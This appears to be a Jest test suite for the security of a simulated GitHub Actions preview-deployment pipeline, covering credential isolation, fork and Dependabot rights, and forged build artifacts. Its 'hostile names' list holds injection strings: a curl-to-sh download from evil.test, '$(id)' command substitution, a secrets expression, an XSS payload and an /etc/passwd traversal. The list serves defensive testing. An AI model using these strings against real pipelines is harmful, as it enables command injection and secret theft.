import { describe, expect, test } from '@jest/globals';
import type { Job } from '../harness/job.ts';
import type { Files } from '../harness/model.ts';
import { sampleRelease } from '../pipeline/sample-graph.ts';
import { manifestOf, type Stored } from './artifacts.ts';
import { edit } from './edit.ts';
import { credentialsOf, whatIsWrong } from './invariants.ts';
import { type Scenario, type ScenarioOptions, scenario } from './scenario.ts';
import { isTrusted } from './trust.ts';

const preview = '.github/workflows/preview.yml';
const cleanup = '.github/workflows/cleanup.yml';
const contentsOnly = /contents: read # to check out the pull request\n/;

async function opened(options: ScenarioOptions = {}, act: (story: Scenario) => void = () => {}): Promise<Scenario> {
  const story = await scenario(options);
  act(story);
  story.repository.pulls.open();
  await story.platform.settle();
  return story;
}

function jobsOf({ platform }: Scenario, path: string): Job[] {
  return platform.runs.flatMap(({ jobs }) => jobs.filter((job) => job.path === path));
}

/** A build hook writes something else into the handover than what was built. */
async function handedOver(change: (built: Stored) => Stored, options: { compares?: boolean; forges?: boolean } = {}) {
  const story = await scenario();
  Object.assign(story.world, options);
  const { repository, world } = story;
  repository.branch('hostile');
  repository.push('hostile');
  repository.pulls.open({ head: 'hostile' });
  world.hooks.set(repository.resolve('refs/pull/1/merge')!, change);
  await story.platform.settle();
  return story;
}

describe('code of a pull request finds no credential where it runs', () => {
  test('with the workflows as they are', async () => {
    const story = await opened();
    const [build] = jobsOf(story, 'preview/build');
    expect(build!.untrusted).toEqual(['scripts of packages', 'build hooks']);
    expect(credentialsOf(build!)).toEqual([]);
    expect(whatIsWrong(story)).toEqual([]);
  });

  test.each<[string, (files: Files) => Files, string]>([
    ['its identity', edit(preview, contentsOnly, 'contents: read\n      id-token: write\n'), 'id-token: write'],
    ['its rights', edit(preview, contentsOnly, 'contents: read\n      deployments: write\n'), 'deployments: write'],
    [
      'its environment',
      edit(
        preview,
        '    timeout-minutes: 30\n',
        '    timeout-minutes: 30\n    environment: { name: preview, deployment: false }\n',
      ),
      'the environment preview',
    ],
    [
      'its token',
      edit(preview, 'persist-credentials: false', 'persist-credentials: true'),
      'its token in the workspace',
    ],
  ])('the guard of %s is what keeps it', async (_, kit, what) => {
    const story = await opened({ kit });
    expect(whatIsWrong(story).join()).toContain(what);
  });

  test('a caller that gives all rights gives them to no job that asks for fewer', async () => {
    const templates = edit(preview, /permissions:\n( {6}.*\n)+/, 'permissions: write-all\n');
    const rights = async (options: ScenarioOptions) => {
      const story = await opened(options);
      return jobsOf(story, 'preview/build')[0]!.permissions;
    };
    expect(await rights({ templates })).toEqual({ contents: 'read', 'pull-requests': 'read' });
    const kit = (files: Files) =>
      edit(
        preview,
        /permissions: \{\}\n/,
        '',
      )(edit(preview, / {4}permissions:\n( {6}.*\n){2} {4}outputs:\n {6}wanted/, '    outputs:\n      wanted')(files));
    expect(await rights({ templates, kit })).toMatchObject({ 'id-token': 'write', contents: 'write' });
  });

  test('a workflow that wants more than its caller gives does not start at all', async () => {
    const templates = edit(preview, /id-token: write.*\n/, 'id-token: none\n');
    const story = await opened({ templates });
    expect(story.platform.runs.map(({ refusal }) => refusal)).toContainEqual(
      expect.stringMatching(/id-token: write, but is only allowed/),
    );
  });

  test('nothing of a pull request is checked out when it closes', async () => {
    const close = async (options: ScenarioOptions) => {
      const story = await opened(options);
      story.repository.pulls.close(1);
      await story.platform.settle();
      return story;
    };
    expect(whatIsWrong(await close({}))).toEqual([]);
    const kit = edit(cleanup, /( {6})- name: Remove\n/, '$1- { uses: actions/checkout@v7 }\n$1- name: Remove\n');
    expect(whatIsWrong(await close({ kit })).join()).toContain('id-token: write');
  });
});

describe('forks and bots', () => {
  /** A pull request of Dependabot with the label, to which it pushes again. */
  async function byDependabot(options: ScenarioOptions = {}) {
    const story = await scenario(options);
    const { pulls } = story.repository;
    pulls.open({ by: 'dependabot[bot]' });
    await story.platform.settle();
    pulls.label(1, 'fairlead:preview', 'ada');
    await story.platform.settle();
    pulls.push(1, 'dependabot[bot]');
    await story.platform.settle();
    return jobsOf(story, 'preview/deploy').map(({ run, identities }) => [run.event.actor, identities.length]);
  }

  test('GitHub would give Dependabot the rights that a workflow asks for; the condition of the job is what keeps them', async () => {
    expect(await byDependabot()).toEqual([['ada', 1]]);
    const kit = edit(preview, /\n *&& github.actor != 'dependabot\[bot\]'/, '');
    expect((await byDependabot({ kit })).filter(([actor]) => actor === 'dependabot[bot]')).not.toEqual([]);
  });

  test('a fork has no job with rights, and where it had one it could do nothing', async () => {
    const fromFork = async (options: ScenarioOptions = {}) => {
      const story = await scenario(options);
      story.repository.pulls.open({ from: story.github.world.fork(story.repository, 'eve'), by: 'eve' });
      await story.platform.settle();
      return story;
    };
    const story = await fromFork();
    expect(jobsOf(story, 'preview/deploy')).toEqual([]);
    expect(whatIsWrong(story)).toEqual([]);
    const kit = edit(preview, /\n *&& github.event.pull_request.head.repo.full_name == github.repository/, '');
    const open = await fromFork({ kit });
    const [deploy] = jobsOf(open, 'preview/deploy');
    expect([deploy!.result, deploy!.identities, deploy!.secrets]).toEqual(['failure', [], []]);
    expect(open.cloud.environments.size).toBe(0);
  });
});

describe('a pull request that changes workflows', () => {
  const own = (environment: string) => `on: pull_request
permissions: {}
jobs:
  mine:
    runs-on: x
    environment: { name: ${environment}, deployment: false }
    permissions: { id-token: write }
    steps:
      - uses: aws-actions/configure-aws-credentials@v6
        with: { role-to-assume: "arn:aws:iam::1:role/fairlead-${environment}" }
`;

  async function withItsOwn(environment: string, story: Scenario) {
    const { repository, trees, platform } = story;
    repository.branch('hostile');
    trees.change(repository.push('hostile'), { '.github/workflows/mine.yml': own(environment) });
    repository.pulls.open({ head: 'hostile' });
    await platform.settle();
    return jobsOf(story, 'mine')[0]!;
  }

  test('gets the identity of the environment of previews, which no role trusts: another workflow runs', async () => {
    const story = await scenario();
    const job = await withItsOwn('preview', story);
    expect(job.result).toBe('failure');
    const [claims] = job.identities;
    expect(claims).toMatchObject({
      environment: 'preview',
      job_workflow_ref: 'ada/shop/.github/workflows/mine.yml@refs/pull/1/merge',
    });
    const policy = story.world.policies.preview!;
    expect(isTrusted(claims!, policy)).toBe(false);
    // Without the condition on the workflow anybody who may push could deploy previews.
    const { 'token.actions.githubusercontent.com:job_workflow_ref': _, ...refs } = policy.StringLike!;
    expect(isTrusted(claims!, { ...policy, StringLike: refs })).toBe(true);
  });

  test('does not get into production: its rules are of the ref, and so is its role', async () => {
    const story = await scenario();
    const job = await withItsOwn('production', story);
    expect([job.result, job.started, job.identities]).toEqual(['failure', undefined, []]);
    const open = await scenario();
    open.repository.environments.set('production', { branches: 'all' });
    const inside = await withItsOwn('production', open);
    expect(inside.identities).toHaveLength(1);
    expect(isTrusted(inside.identities[0]!, open.world.policies.production!)).toBe(false);
  });

  test('cannot have its own workflow act as a pull request that closes', async () => {
    const story = await scenario();
    const { repository, trees, platform } = story;
    repository.branch('hostile');
    trees.change(repository.push('hostile'), {
      [cleanup]: own('preview').replace('pull_request', 'pull_request_target'),
    });
    repository.pulls.open({ head: 'hostile' });
    repository.pulls.close(1);
    await platform.settle();
    expect(jobsOf(story, 'mine')).toEqual([]);
    expect(jobsOf(story, 'cleanup/remove (1)').map(({ result }) => result)).toEqual(['success']);
  });
});

describe('what the build hands over', () => {
  /** As when a step exchanges the artifact after its digest was told. */
  const exchanged = (built: Stored): Stored => {
    const other = { ...built, release: { ...built.release, digest: `sha256:${'e'.repeat(64)}` as const } };
    return { ...other, manifest: manifestOf(other) };
  };

  test('is refused when it is not what the build said', async () => {
    const story = await handedOver(exchanged);
    expect(story.standing('pr-1')).toBeUndefined();
    expect(story.ended.find(({ leaf }) => leaf === 'deploy')!.end.lines.join()).toMatch(/FL6202/);
    // Were it not compared, it would run.
    const believed = await handedOver(exchanged, { compares: false });
    expect(believed.standing('pr-1')?.release).toBe(`sha256:${'e'.repeat(64)}`);
  });

  test('is refused when its parts are not what it says they are', async () => {
    const story = await handedOver((built) => ({ ...built, application: 'bank' }));
    expect(story.cloud.environments.size).toBe(0);
  });

  test('is not deployed when the workflow does not say which it is', async () => {
    const kit = edit(preview, /\n *handover: \$\{\{ needs.build.outputs.handover \}\}/, '');
    const story = await opened({ kit });
    expect(story.standing('pr-1')).toBeUndefined();
  });

  test('decides neither about the pull request nor about the commit', async () => {
    const story = await handedOver((built) => {
      const source = { ...built.release.source, commit: 'f'.repeat(40) };
      return { ...built, release: { ...built.release, source } };
    });
    const { head } = story.repository.pulls.require(1);
    expect([...story.cloud.environments].map(([key, { commit }]) => [key, commit])).toEqual([['shop/pr-1', head.sha]]);
    expect(whatIsWrong(story)).toEqual([]);
  });

  test('of a run that is over for long is not there any more, and nothing is changed', async () => {
    const story = await opened();
    const { clock, platform } = story;
    const run = platform.runs.find(({ file }) => file === preview)!;
    clock.time += 29 * 86_400_000;
    const before = { ...story.standing('pr-1') };
    // Only the job that deploys, whose artifact is gone.
    const deploy = run.jobs.find(({ path }) => path === 'preview/deploy')!;
    deploy.result = 'failure';
    platform.rerun(run, { failed: true });
    await platform.settle();
    expect(story.ended.at(-1)!.end.lines.join()).toMatch(/FL6031/);
    expect(story.standing('pr-1')).toEqual(before);
  });
});

describe('hostile names', () => {
  const hostile = [
    '${{ secrets.GITHUB_TOKEN }}',
    '"; curl https://evil.test | sh; echo "',
    '$(id)`id`',
    'a\n::set-output name=wanted::true\n::add-mask::x',
    "'] || always() || ['",
    '<img src=x onerror=alert(1)>',
    '../../../etc/passwd',
  ];

  /** A pull request whose branch, title, body, label, author and files are hostile; the scripts that ran. */
  async function scriptsOf(
    name: string,
    options: ScenarioOptions = {},
  ): Promise<{ story: Scenario; scripts: string[] }> {
    const story = await scenario(options);
    const { repository, trees, platform } = story;
    const branch = name.replace(/\s/g, '-');
    repository.branch(branch);
    trees.change(repository.push(branch), { [`src/${name}.ts`]: name, 'fairlead.json': '{}' });
    repository.pulls.open({ head: branch, title: name, body: name, labels: ['fairlead:preview'] });
    repository.pulls.label(1, name);
    await platform.settle();
    repository.pulls.close(1);
    await platform.settle();
    return { story, scripts: story.scripts };
  }

  test.each(hostile)('%j stays text', async (name) => {
    const { story, scripts } = await scriptsOf(name);
    expect(scripts.filter((script) => script.includes(name))).toEqual([]);
    expect(story.standing('pr-1')).toBeUndefined();
    expect(story.ended.filter(({ leaf }) => leaf === 'deploy').map(({ end }) => end.outputs.kind)).toContain(
      'deployed',
    );
    expect(whatIsWrong(story)).toEqual([]);
  });

  test('a script with an expression in it would run them', async () => {
    const kit = edit('actions/build/action.yml', /run: bash .*/, 'run: echo "${{ github.event.pull_request.title }}"');
    const { scripts } = await scriptsOf('$(id)', { kit });
    expect(scripts).toContain('echo "$(id)"');
  });
});

describe('what untrusted code has saved to a cache', () => {
  test('comes to no job that may have an identity: neither asked for, nor given when asked', async () => {
    expect(whatIsWrong(await opened())).toEqual([]);
    const asks = (file: string) => edit(file, / {10}cache: false.*\n/, '');
    expect(whatIsWrong(await opened({ kit: asks(preview) }))).toEqual([]);
  });
});

describe('a build that says it is of another application, and forges what its job says', () => {
  const asBank = (built: Stored): Stored => {
    const { release } = built;
    const graph = { ...release.content.graph, application: 'bank' };
    const other = { ...built, application: 'bank', release: sampleRelease(graph, release.source.commit) };
    return { ...other, manifest: manifestOf(other) };
  };

  test('is refused for a preview', async () => {
    const story = await handedOver(asBank, { forges: true });
    expect([...story.cloud.environments.keys()]).toEqual([]);
  });

  test('is refused for production', async () => {
    const file = '.github/workflows/production.yml';
    const templates = edit(file, /( +)target: aws\n/, '$1target: aws\n$1proof: preferred\n');
    const story = await scenario({ templates });
    const { repository, world, platform } = story;
    world.forges = true;
    platform.clock.after(0, () => world.hooks.set(repository.branches.get('main')!, asBank));
    repository.push('main');
    await platform.settle();
    expect([...story.cloud.environments.keys()]).toEqual([]);
  });
});
